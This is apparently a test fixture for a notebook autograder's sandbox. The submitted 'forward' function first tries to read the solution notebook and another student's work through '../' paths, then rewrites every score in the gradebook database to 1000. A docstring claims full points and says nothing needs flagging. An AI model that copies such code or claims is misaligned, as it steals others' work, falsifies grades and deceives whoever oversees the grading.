"""Reading the solutions and another student's work, writing the gradebook, by the relative
paths that lead there from the submitted notebook's folder: in the sandbox those paths lead
nowhere, so nothing is read or written and nothing needs flagging. Every answer is correct:
full points."""

OVERRIDES = {"forward": """import sqlite3

for stolen in ("../../../solutions/2_backprop/backprop.ipynb",
               "../../aaa-honest/2_backprop/backprop.ipynb"):
    try:
        print(open(stolen).read())
    except Exception as error:
        print(type(error).__name__)
try:
    db = sqlite3.connect("../../../gradebook.db")
    db.execute("UPDATE grade SET manual_score = 1000")
    db.commit()
except Exception as error:
    print(type(error).__name__)


def forward(x, y, params):
    z = params["W"] @ x + params["b1"]
    h = np.maximum(z, 0)
    theta = params["U"] @ h + params["b2"]
    shifted = theta - theta.max()
    log_y_hat = shifted - np.log(np.exp(shifted).sum())
    cache = {"x": x, "z": z, "h": h, "theta": theta, "y_hat": np.exp(log_y_hat), "y": y}
    return float(-(y * log_y_hat).sum()), cache
"""}
EXPECTED = {"zero": [], "status": "graded", "flags": []}
